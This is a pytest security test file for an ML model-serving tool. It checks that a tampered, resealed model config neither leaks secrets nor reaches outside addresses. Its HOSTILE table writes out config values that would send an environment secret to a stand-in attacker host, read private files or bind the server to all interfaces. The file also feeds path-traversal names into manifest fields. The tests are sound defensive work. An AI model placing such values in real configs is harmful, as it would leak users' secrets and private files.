"""Somebody else's version predicts, and acts on nothing: no address, file or secret in it is used on this machine."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from estimator import verbs
from estimator.config import Config, Image, Section, Serving, resolve_section
from estimator.config.authority import description
from estimator.errors import ArtefactError, EstimatorError, TrustError
from estimator.serving.reload import ModelReference, ServedModels
from estimator.shipping.deployment.base import DeploymentContext, Release, serving_of
from estimator.shipping.image.build_spec import BuildSpec
from estimator.store.artefact import Artefact, open_artefact
from estimator.store.signature import SIGNATURE, key_file
from estimator.store.store import Store, version_folder
from tests.conftest import EXAMPLES

SECRET = "s3cr3t-of-the-reader"
PENGUINS = EXAMPLES / "penguins" / "penguins.csv"
# What an attacker writes: every key of a config that names an address, a file or a secret. HOST is a listener on this
# machine that stands for the attacker's; FILES is a folder that the version has no business in.
WEB, LOG = "http://HOST/${READER_SECRET}", "postgresql://me:${READER_SECRET}@HOST/x"
HOSTILE: Mapping[str, Any] = {
    "store": "FILES/store",
    "data.path": f"{WEB}.csv",
    "data.path=database": LOG,
    "data.path=file": "FILES/private.csv",
    "data.path=list": ["FILES/private.csv", f"{WEB}.csv"],
    "schema.file": f"{WEB}.yml",
    "training.pretrained": "FILES/version",
    "tuning.study": LOG,
    "serving.host": "0.0.0.0",
    "serving.port": 18_765,
    "serving.workers": 2,
    "serving.api_key_env": "READER_SECRET",
    "serving.keys_file": "FILES/keys.json",
    "serving.tls_certificate": "FILES/private.csv",
    "serving.tls_key": "FILES/private.csv",
    "serving.prediction_log": LOG,
    "serving.prediction_log=file": "FILES/log.db",
    "serving.shadow": "candidate",
    "serving.traces": True,
    "image.base": "HOST/base:1",
    "image.labels": {"x": "${READER_SECRET}"},
    "deployment": {"kind": "docker", "host": "0.0.0.0", "secrets": ["READER_SECRET"]},
    "monitoring.alerts": [{"kind": "webhook", "url": f"{WEB}/alert"}],
    "monitoring.on_drift": "retrain",
    "retraining.every": "1 minute",
    "promotion.mode": "automatic",
}
READ = tuple(key for key in HOSTILE if key.startswith("data.path"))


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """The attacker's address, and what arrived there."""
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    try:
                        received.append(connection.recv(4096))
                    except OSError:
                        received.append(b"")

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", received


class Watch:
    """What this process opens, connects to and listens on while it is `on`; an audit hook cannot be removed."""

    def __init__(self) -> None:
        self.on, self.events = False, list[tuple[str, str]]()
        sys.addaudithook(self._hook)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if self.on and event in ("open", "socket.connect", "socket.bind", "sqlite3.connect", "subprocess.Popen"):
            self.events.append((event, str(arguments)))

    @contextmanager
    def watching(self) -> Iterator[list[tuple[str, str]]]:
        self.events, self.on = [], True
        try:
            yield self.events
        finally:
            self.on = False


@pytest.fixture(scope="module")
def watch() -> Watch:
    return Watch()


@pytest.fixture
def files(tmp_path) -> Path:
    folder = tmp_path / "private"
    folder.mkdir()
    (folder / "private.csv").write_text(SECRET)
    return folder


def reseal(version: Path, changes: Mapping[str, Any]) -> Path:
    """Change keys of a version's config, and recompute its checksums, as an attacker can."""
    path = version / "config.resolved.json"
    config = json.loads(path.read_text())
    for key, value in changes.items():
        section, _, name = key.partition("=")[0].partition(".")
        if name:
            config[section][name] = value
        else:
            config[section] = value
    path.write_text(json.dumps(config))
    manifest = json.loads((version / "manifest.json").read_text())
    manifest["files"]["config.resolved.json"] = hashlib.sha256(path.read_bytes()).hexdigest()
    (version / "manifest.json").write_text(json.dumps(manifest))
    return version


@pytest.fixture
def hostile(store, tmp_path, listener, files, monkeypatch):
    """Make a store whose live version was edited, with some hostile values, and give it."""
    monkeypatch.setenv("READER_SECRET", SECRET)
    monkeypatch.delenv("ESTIMATOR_STORE", raising=False)
    monkeypatch.chdir(tmp_path)
    handlers = {number: signal.getsignal(number) for number in (signal.SIGHUP, signal.SIGTERM)}

    def make(*keys: str) -> Path:
        shutil.copytree(store / "penguins", tmp_path / "models" / "penguins")
        text = json.dumps({key: HOSTILE[key] for key in keys})
        changes = json.loads(text.replace("HOST", listener[0]).replace("FILES", str(files)))
        reseal(version_folder(tmp_path / "models" / "penguins"), changes)
        return tmp_path / "models"

    yield make
    for number, handler in handlers.items():
        signal.signal(number, handler)


class Stopped(Exception):
    pass


def serve(model: str, **settings: Any) -> list[str]:
    """Start a server up to the point where it would take requests; return its URL."""
    urls = []

    def ready(artefacts: Sequence[Artefact], url: str) -> None:
        urls.append(url)
        raise Stopped

    with suppress(Stopped, EstimatorError):
        verbs.serve.serve([model], verbs.Context((), dict(os.environ)), settings=settings, ready=ready)
    return urls


@pytest.mark.parametrize("key", HOSTILE)
def test_edited_version_acts_on_nothing(key, hostile, listener, files, watch, run):
    store, (_, received) = hostile(key), listener
    received.clear()
    with watch.watching() as events:
        urls = serve("penguins", port=0)
        codes = {
            "predict": run("predict", "--model", "penguins", "--input", PENGUINS, "--output", "out.csv")[0],
            "verify": run("verify", "penguins", "--folder", PENGUINS.parent)[0],
            "retrain": run("retrain", "penguins", "--input", PENGUINS, "--folder", PENGUINS.parent)[0],
            "page": run("page", "penguins", "--output", "page.html")[0],
            "models": run("models")[0],
            "monitor": run("monitor", "penguins")[0],
            "check": run("monitor", "penguins", "--input", PENGUINS)[0],
        }
        artefact = verbs.Context().version("penguins")
        image = resolve_section("image", Image, artefact.config.get("image", {}), {})
        content = spec_of(artefact).context()["Dockerfile"].decode()
    left = [path.name for path in files.iterdir()]
    assert (received, left, (store / "penguins" / "rows").exists()) == ([], ["private.csv"], False)
    assert all(url.startswith("http://127.0.0.1:") and not url.endswith(":18765") for url in urls)
    assert not [event for event in events if str(files) in event[1] or listener[0].split(":")[1] in event[1]]
    assert codes.pop("check") in (0, 3)
    # Its rows are not read without a question, and it names no log.
    assert codes == {"predict": 0, "verify": 1, "retrain": 1, "page": 0, "models": 0, "monitor": 1}
    assert (image, "READER_SECRET" in content, "SERVING" in content) == (Image(), False, False)
    assert bool(urls) == (key not in ("serving.api_key_env", "serving.keys_file"))


def spec_of(artefact: Artefact) -> BuildSpec:
    return BuildSpec(artefact, "x:1", "python:3.11-slim", "3.11", "amd64", 5000, (), ("x.whl", b""), {})


def test_note_names_what_is_not_used(hostile, run):
    hostile("serving.host", "monitoring.alerts", "store")
    message = run("predict", "--model", "penguins", "--input", PENGUINS, "--output", "out.csv")[2]
    assert "not signed with your key; not used of its config: store, serving.host, monitoring.alerts" in message
    assert len(pl.read_csv("out.csv")) == len(pl.read_csv(PENGUINS, infer_schema=False))


@pytest.mark.parametrize("key", READ)
def test_address_is_shown_and_needs_trust(key, hostile, run):
    hostile(key)
    code, _, message = run("verify", "penguins")
    assert code == 1
    assert "data.path in it names" in message
    assert SECRET not in message
    assert ("--trust" in message) == ("file" in key)


def test_trusted_address_is_read_without_secrets(store, hostile, listener, files, run):
    folder, (address, received) = hostile(), listener
    reseal(version_folder(folder / "penguins"), {"data.path": f"http://{address}/table.csv"})
    received.clear()
    code, _, message = run("verify", "penguins", "--trust")
    assert (code, f"http://{address}/table.csv" in message) == (1, True)
    assert received
    assert not [request for request in received if SECRET.encode() in request]
    for key in READ:
        received.clear()
        reseal(version_folder(folder / "penguins"), {"data.path": HOSTILE[key]})
        run("verify", "penguins", "--trust")
        assert received == []


def test_trusted_version_is_verified_and_retrained(hostile, run):
    hostile("serving.host", "monitoring.alerts", "tuning.study")
    assert run("verify", "penguins", "--folder", PENGUINS.parent, "--trust")[0] == 0
    table = ("--input", PENGUINS, "--include-learned", "--folder", PENGUINS.parent)
    quick = ("--set", 'retraining.candidates=["refit"]')
    code, _, message = run("retrain", "penguins", *table, "--trust", *quick)
    assert code in (0, 3), message
    new = verbs.Context().version(Store(Path("models")).versions("penguins")[-1])
    # A candidate is one's own, and takes over nothing of what its ancestor was not allowed.
    assert (new.is_own, new.config["serving"]["host"], new.config["monitoring"]["alerts"]) == (True, "127.0.0.1", [])


def test_own_config_with_the_same_rows_needs_no_trust(hostile, tmp_path):
    hostile("serving.host")
    artefact = verbs.Context().version("penguins")
    context = verbs.Context(own_data=verbs.context.config_of(artefact).data)
    assert verbs.verify.verify("penguins", context, folder=PENGUINS.parent).is_equal
    with pytest.raises(TrustError):
        verbs.verify.verify("penguins", verbs.Context(), folder=PENGUINS.parent)


def test_trained_version_is_signed(store):
    artefact = open_artefact(version_folder(store / "penguins"))
    assert artefact.is_own
    assert artefact.config == artefact.recorded_config
    assert stat.S_IMODE(key_file().stat().st_mode) == 0o600
    assert key_file().read_bytes() not in (artefact.folder / SIGNATURE).read_bytes()


def test_another_key_signs_nothing_of_mine(store, tmp_path, monkeypatch):
    """A store that was handed over, or copied to a machine without the key, is somebody else's, key file or not."""
    copy = Path(shutil.copytree(version_folder(store / "penguins"), tmp_path / "models" / "version"))
    shutil.copy(key_file(), tmp_path / "models" / "signing.key")
    monkeypatch.setenv("ESTIMATOR_SIGNING_KEY", str(tmp_path / "none"))
    assert not open_artefact(copy).is_own
    assert not (tmp_path / "none").exists()
    (tmp_path / "none").write_text("x")
    with pytest.raises(ArtefactError, match="expected 64 hexadecimal digits"):
        open_artefact(copy)


def test_version_is_signed_by_hand(hostile, run, monkeypatch):
    """Versions from before there were signatures, or from a colleague."""
    hostile("serving.host", "serving.prediction_log=file")
    code, _, message = run("sign", "penguins")
    assert (code, 'serving.host: "0.0.0.0"' in message, "pass --yes" in message) == (2, True, True)
    assert not verbs.Context().version("penguins").is_own
    code, result, _ = run("sign", "--yes", "--json")
    assert (code, len(result["signed"])) == (0, 1)
    assert verbs.Context().version("penguins").config["serving"]["host"] == "0.0.0.0"
    assert run("sign", "--yes", "--json")[1]["signed"] == []
    assert run("models", "--json")[1]["models"][0]["versions"][0]["own"] is True


def test_read_only_store_is_used_and_not_signed(hostile, run):
    store = hostile()
    folder = version_folder(store / "penguins")
    (folder / SIGNATURE).unlink()
    # A user who may write everything is stopped by a folder of that name.
    (folder / SIGNATURE).mkdir()
    assert run("predict", "--model", "penguins", "--input", PENGUINS, "--output", "out.csv")[0] == 0
    code, _, message = run("sign", "penguins", "--yes")
    assert (code, "copy the version to a folder of your own" in message) == (1, True)


def test_training_without_a_place_for_the_key_says_so(config_of, tmp_path, monkeypatch):
    monkeypatch.setenv("ESTIMATOR_SIGNING_KEY", "/dev/null/signing.key")
    table = pl.DataFrame({"x": [index % 7 / 2 for index in range(60)], "y": [index % 7 * 1.5 for index in range(60)]})
    conf = config_of(table, "y")
    context = verbs.Context(store_path=str(tmp_path / "models"))
    new = verbs.train.train(conf, context)
    assert not new.artefact.is_own
    assert f"{new.artefact.version} is not signed: the key cannot be kept" in "\n".join(context.notes.to_data())


def test_first_trainings_at_once_make_one_key(tmp_path):
    code = "from estimator.store.signature import signature_of; print(signature_of(b'x').decode())"
    environment = {**os.environ, "ESTIMATOR_SIGNING_KEY": str(tmp_path / "new" / "signing.key")}
    command = [sys.executable, "-c", code]
    started = [subprocess.Popen(command, env=environment, stdout=subprocess.PIPE) for _ in range(4)]
    assert len({process.communicate()[0] for process in started}) == 1
    assert [path.name for path in (tmp_path / "new").iterdir()] == ["signing.key"]


def test_successor_of_an_own_version_keeps_its_serving(store, tmp_path):
    """Promoting somebody else's version must not open a server whose own version closed it."""
    folder = Path(shutil.copytree(store / "penguins", tmp_path / "penguins"))
    own = version_folder(folder)
    foreign = Path(shutil.copytree(own, folder / "foreign"))
    (foreign / SIGNATURE).unlink()
    now = [own]
    closed = verbs.context.config_of(open_artefact(own)).serving.model_copy(update={"page": False, "max_rows": 3})
    models = ServedModels([ModelReference("penguins", lambda: now[0])], lambda artefact: closed)
    models._serving_of = lambda artefact: closed.model_copy(update={"page": True})
    now[0] = foreign
    (service,) = models.reload(False)
    assert (service.artefact.folder, service.serving) == (foreign, closed)


def test_image_holds_the_own_serving_and_no_key(store, tmp_path, monkeypatch):
    folder = Path(shutil.copytree(version_folder(store / "penguins"), tmp_path / "version"))
    log = "postgresql://me:${PASSWORD}@db/x"
    reseal(folder, {"serving.prediction_log": log, "serving.page": False, "serving.private_columns": ["a b"]})
    verbs.sign.sign([str(folder)], verbs.Context(), confirm=lambda artefact: True)
    spec = spec_of(open_artefact(folder))
    context = spec.context()
    assert spec.environment["ESTIMATOR_CONFIG__SERVING__PREDICTION_LOG"] == json.dumps(log)
    assert r'ESTIMATOR_CONFIG__SERVING__PREDICTION_LOG="\"postgresql://me:\${PASSWORD}@db/x\""' in (
        context["Dockerfile"].decode()
    )
    assert not [name for name, content in context.items() if key_file().read_bytes() in content]
    # In the image nothing is signed for the server, and its settings are the same.
    inside = tmp_path / "inside"
    for name, content in context.items():
        if name.startswith("model/"):
            (inside / name).parent.mkdir(parents=True, exist_ok=True)
            (inside / name).write_bytes(content)
    own = open_artefact(folder)
    monkeypatch.setenv("ESTIMATOR_SIGNING_KEY", "/dev/null/signing.key")
    copy = open_artefact(inside / "model")
    serving = resolve_section("serving", Serving, copy.config["serving"], spec.environment)
    assert (own.is_own, copy.is_own, serving.model_dump(mode="json")) == (True, False, own.config["serving"])


def test_deployment_knows_the_serving_of_the_image(store, tmp_path):
    """A machine that deploys an image has no key that its version is signed with."""
    folder = Path(shutil.copytree(version_folder(store / "penguins"), tmp_path / "version"))
    (folder / SIGNATURE).unlink()
    artefact, variables = open_artefact(folder), {"ESTIMATOR_CONFIG__SERVING__API_KEY_ENV": "KEY"}
    release = Release("penguins", artefact.version, "x:1", 5000, "amd64")
    context = DeploymentContext(tmp_path, {}, lambda release: artefact, image_environment=lambda release: variables)
    assert serving_of(release, {}, context).api_key_env == "KEY"


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "a/../b", ".hidden", "a b"])
@pytest.mark.parametrize("key", ["name", "version", "parent"])
def test_name_of_a_version_leads_nowhere(store, tmp_path, key, name):
    folder = Path(shutil.copytree(version_folder(store / "penguins"), tmp_path / "version"))
    path = folder / "manifest.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), key: name}))
    with pytest.raises(ArtefactError, match=f"manifest.json: {key}: expected letters"):
        open_artefact(folder)


def test_every_key_that_names_a_place_has_no_authority():
    """A new key that names one fails here until it is given to the machine, or is read only by who asks."""
    naming = re.compile(r"\b(files?|folders?|path|address(es)?|variables?|https?|hosts?)\b|\$\{|://")
    places = {
        f"{alias}.{key}"
        for name, field in Config.model_fields.items()
        if isinstance(kind := field.annotation, type) and issubclass(kind, Section)
        for alias in [field.alias or name]
        for key, item in kind.model_fields.items()
        if naming.search(item.description or "") and key in description({alias: {key: 1}}).get(alias, {})
    }
    # The table, which needs --trust; the others say how its file is written.
    names = ("path", "query", "kind", "delimiter", "encoding", "skip_lines", "on_bad_lines")
    assert places == {"schema.columns", *(f"data.{name}" for name in names)}
    assert description(dict.fromkeys(["deployment", "image", "monitoring", "promotion", "store"])) == {"serving": {}}
